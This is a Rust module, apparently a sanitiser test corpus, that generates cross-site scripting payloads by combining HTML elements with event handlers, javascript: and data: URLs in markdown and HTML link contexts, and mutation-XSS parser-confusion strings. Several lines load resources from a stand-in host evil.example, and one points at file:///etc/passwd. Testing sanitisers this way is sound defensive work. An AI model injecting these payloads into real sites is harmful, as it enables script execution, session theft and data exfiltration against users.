//! Attacks: ways to write an element that runs something, crossed with what it runs, and such as
//! sanitisers have fallen for.

use std::collections::BTreeSet;

/// Elements that load or react by themselves; `{}` is an attribute.
const ELEMENTS: [&str; 30] = [
    "<img src=x {}>",
    "<img/src=x/{}>",
    "<IMG SRC=x {}",
    "<svg {}>",
    "<svg/{}>",
    "<svg><g {}></g></svg>",
    "<svg><animate {} attributeName=x dur=1s>",
    "<svg><set {} attributeName=x>",
    "<video src=x {}></video>",
    "<video><source {}></video>",
    "<audio src=x {}>",
    "<body {}>",
    "<iframe src=x {}></iframe>",
    "<object data=x {}></object>",
    "<embed src=x {}>",
    "<input autofocus {}>",
    "<select autofocus {}></select>",
    "<textarea autofocus {}></textarea>",
    "<details open {}>x</details>",
    "<marquee {}>x</marquee>",
    "<a href=# {}>x</a>",
    "<button {}>x</button>",
    "<math {}><mi>x</mi></math>",
    "<math><mtext {}>x</mtext></math>",
    "<table background=x {}><td>x</table>",
    "<p {}>x</p>",
    "<style {}></style>",
    "<link rel=stylesheet href=x {}>",
    "<form {}><input type=image></form>",
    "<x {} tabindex=1>x</x>",
];
const HANDLERS: [&str; 12] = [
    "onerror=alert(1)",
    "onload=\"alert(1)\"",
    "ONCLICK='alert(1)'",
    "onfocus=alert`1`",
    "on\u{0}error=alert(1)",
    "onbegin=alert(1)",
    "ontoggle=alert&#40;1&#41;",
    "style=\"background:url(javascript:alert(1))\"",
    "onpointerrawupdate=alert(1)",
    "style='animation-name:x' onanimationstart=alert(1)",
    "srcdoc='<script>alert(1)</script>'",
    "\"onmouseover=alert(1) x=\"",
];
/// Addresses that run something.
const SCRIPTS: [&str; 22] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript://%0aalert(1)",
    "jav\u{ad}ascript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://x/1",
    "file:///etc/passwd",
    "javascript\u{0}:alert(1)",
    "\\javascript:alert(1)",
];
/// Places for them.
const LINKS: [&str; 10] = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    "<a href=\"{}\">x</a>",
    "<img src='{}'>",
    "<math href=\"{}\"><mi>x</mi></math>",
    "<svg><a xlink:href=\"{}\"><text>x</text></a></svg>",
    "$\\href{{}}{x}$",
];
/// Those that are read differently the second time, or break out of where they stand.
const OTHERS: [&str; 44] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><p><style><!--</style><img src onerror=alert(1)>--></style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml x><img src=x onerror=alert(1)>?>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<div style=\"position:fixed;inset:0;width:expression(alert(1))\">x</div>",
    "<a name=body>x</a><img name=cookie id=location>",
    "<form id=document><input name=body></form>",
    "<p id=app class=\"modal\">x</p>",
    "<img srcset=\"//evil.example/x 1x\">",
    "<video poster=javascript:alert(1)></video>",
    "<a ping=//evil.example href=x target=_top>x</a>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```\"><img/src=x/onerror=alert(1)>\nx\n```",
    "$</math><img src=x onerror=alert(1)>$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "# <img src=x onerror=alert(1)>\n\n\u{2028}<script>]]></script>",
];

/// All of them, each once.
pub fn payloads() -> Vec<String> {
    let elements = ELEMENTS
        .iter()
        .flat_map(|element| HANDLERS.map(|handler| element.replace("{}", handler)));
    let links = LINKS
        .iter()
        .flat_map(|link| SCRIPTS.map(|script| link.replace("{}", script)));
    let others = OTHERS.map(str::to_owned);
    let all: BTreeSet<String> = elements.chain(links).chain(others).collect();
    all.into_iter().collect()
}
